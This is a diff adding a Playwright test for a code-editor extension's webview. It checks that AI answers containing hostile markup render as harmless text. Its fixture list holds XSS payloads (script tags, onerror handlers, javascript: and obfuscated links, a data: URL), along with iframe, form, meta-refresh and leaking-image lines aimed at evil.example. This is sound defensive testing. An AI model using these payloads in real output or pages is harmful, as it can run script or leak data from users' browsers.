@@ -1,0 +1,163 @@
+import assert from 'node:assert/strict';
+import type { Browser, Locator } from 'playwright-core';
+import { finished, makeDetail } from './fixtures.ts';
+import { launchChromium, PanelPage } from './panel-page.ts';
+import { ScriptedHost } from './scripted-host.ts';
+
+/** What a model may write to run, load, style or mislead, and what must be seen of it. */
+const attacks: { name: string; text: string; seen: string }[] = [
+  { name: 'a script', text: '<script>window.pwned = 1</script>', seen: 'window.pwned = 1' },
+  { name: 'an event handler', text: '<img src=x onerror="window.pwned = 1">', seen: 'onerror' },
+  {
+    name: 'an SVG',
+    text: '<svg onload="window.pwned = 1"><a xlink:href="javascript:1">x</a></svg>',
+    seen: 'onload',
+  },
+  { name: 'a frame', text: '<iframe src="https://evil.example/"></iframe>', seen: 'iframe' },
+  { name: 'a remote image', text: '![the cat](https://evil.example/cat.png?leak=1)', seen: 'the cat' },
+  {
+    name: 'an image that breaks out',
+    text: '![x](https://evil.example/"onerror="window.pwned=1)',
+    seen: 'x',
+  },
+  { name: 'a script link', text: '[click](javascript:window.pwned=1)', seen: 'click' },
+  { name: 'a hidden script link', text: '[click](java&#115;cript&colon;window.pwned=1)', seen: 'click' },
+  { name: 'a command link', text: '[click](command:workbench.action.terminal.new)', seen: 'click' },
+  { name: 'a data link', text: '[click](data:text/html,<script>alert(1)</script>)', seen: 'click' },
+  { name: 'a style', text: '<style>*{display:none!important}</style>Still here', seen: 'Still here' },
+  { name: 'a style attribute', text: '<p style="position:fixed;inset:0">cover</p>', seen: 'cover' },
+  { name: 'a form', text: '<form action="https://evil.example/"><button>Send</button></form>', seen: 'form' },
+  { name: 'a base', text: '<base href="https://evil.example/">[a](b)', seen: 'base' },
+  {
+    name: 'a meta refresh',
+    text: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    seen: 'refresh',
+  },
+  { name: 'clobbering names', text: '<a id="body" name="acquireVsCodeApi">named</a>', seen: 'named' },
+  {
+    name: 'a script in a table',
+    text: '| a |\n|---|\n| <img src=x onerror=window.pwned=1> |',
+    seen: 'onerror',
+  },
+  {
+    name: 'a script in a fence language',
+    text: '```"><img/src=x/onerror=window.pwned=1>\ncode\n```',
+    seen: 'code',
+  },
+  {
+    name: 'a custom element of ours',
+    text: '<abai-app></abai-app><vscode-button>Go</vscode-button>',
+    seen: 'abai-app',
+  },
+  { name: 'ANSI escapes', text: '\u001b[31mred\u001b[0m and \u0007bell', seen: 'red' },
+  { name: 'bidi overrides', text: 'user\u202Etxt.exe', seen: 'user' },
+  { name: 'a null and lone surrogates', text: 'a\u0000b \ud800 c', seen: 'c' },
+  { name: 'deep nesting', text: `${'> '.repeat(400)}deep`, seen: 'deep' },
+  {
+    name: 'deep lists',
+    text: Array.from({ length: 120 }, (_, i) => `${'  '.repeat(i)}- i${i}`).join('\n'),
+    seen: 'i119',
+  },
+];
+
+describe('webview: hostile output', function () {
+  this.timeout(30_000);
+  let browser: Browser;
+  let panel: PanelPage | undefined;
+
+  before(async () => {
+    browser = await launchChromium();
+  });
+  after(() => browser.close());
+  afterEach(async () => {
+    await panel?.close();
+    assert.deepEqual(panel?.problems, []);
+  });
+
+  async function show(text: string): Promise<Locator> {
+    const host = new ScriptedHost();
+    host.put(makeDetail({ references: ['demo:swift'], answers: () => ({ ...finished, content: text }) }));
+    host.panelState = { comparisonId: 'comparison-1' };
+    panel = await PanelPage.open(browser, { host });
+    const answer = panel.page.locator('abai-answer abai-rich-text .text');
+    return answer;
+  }
+
+  it('does nothing but show', async () => {
+    const document = attacks.map(({ text }) => `${text}\n\n`).join('');
+    const answer = await show(`${document}\n**the end**\n`);
+    await answer.locator('strong', { hasText: 'the end' }).waitFor();
+    const page = panel!.page;
+    const text = (await answer.textContent()) ?? '';
+    for (const { name, seen } of attacks) assert.ok(text.includes(seen), `${name}: ${seen} is not seen`);
+    assert.equal(await page.evaluate(() => 'pwned' in window), false);
+    const elements = await answer.evaluate((root) => [
+      ...new Set([...root.querySelectorAll('*')].map((element) => element.localName)),
+    ]);
+    const harmless =
+      'div p br hr h1 h2 h3 h4 h5 h6 blockquote ul ol li input strong em del code pre a table thead tbody tr th td span button';
+    assert.deepEqual(
+      elements.filter((name) => !harmless.split(' ').includes(name)),
+      [],
+    );
+    const attributes = await answer.evaluate((root) => [
+      ...new Set([...root.querySelectorAll('*')].flatMap((element) => element.getAttributeNames())),
+    ]);
+    const expected = [
+      'class',
+      'dir',
+      'href',
+      'title',
+      'rel',
+      'tabindex',
+      'type',
+      'align',
+      'disabled',
+      'checked',
+      'start',
+    ];
+    assert.deepEqual(
+      attributes.filter((name) => !expected.includes(name)),
+      [],
+    );
+    const links = await answer.evaluate((root) =>
+      [...root.querySelectorAll('a')].map((link) => link.getAttribute('href')),
+    );
+    assert.deepEqual(
+      links.filter((href) => href !== null && !/^(https?:|mailto:)/.test(href)),
+      [],
+    );
+    assert.equal(page.url(), await page.evaluate(() => `${location.origin}/`));
+  });
+
+  it('opens its links outside, whatever button follows them', async () => {
+    const answer = await show(
+      '[good](https://example.com/a) [bad](javascript:alert(1)) ![pic](https://evil.example/p.png)',
+    );
+    const link = answer.locator('a', { hasText: 'good' });
+    await link.click();
+    await link.click({ button: 'middle' });
+    await answer.locator('a', { hasText: 'pic' }).click();
+    await answer.getByText('bad').click();
+    const { host, page } = panel!;
+    await page.waitForFunction(() => true);
+    for (let tries = 0; host.asked('workbench:open-external').length < 3 && tries < 100; tries++) {
+      await page.waitForTimeout(20);
+    }
+    assert.deepEqual(
+      host.asked('workbench:open-external').map(({ url }) => url),
+      ['https://example.com/a', 'https://example.com/a', 'https://evil.example/p.png'],
+    );
+    assert.equal(page.context().pages().length, 1);
+  });
+
+  it('may be ten megabytes of one line', async () => {
+    const answer = await show(`${'word '.repeat(2_000_000)}end-of-line`);
+    await answer.getByText('end-of-line').waitFor({ state: 'attached', timeout: 20_000 });
+    const { scrollWidth, clientWidth } = await answer.evaluate((root) => ({
+      scrollWidth: root.scrollWidth,
+      clientWidth: root.clientWidth,
+    }));
+    assert.ok(scrollWidth <= clientWidth + 1, 'it is wrapped');
+  });
+});
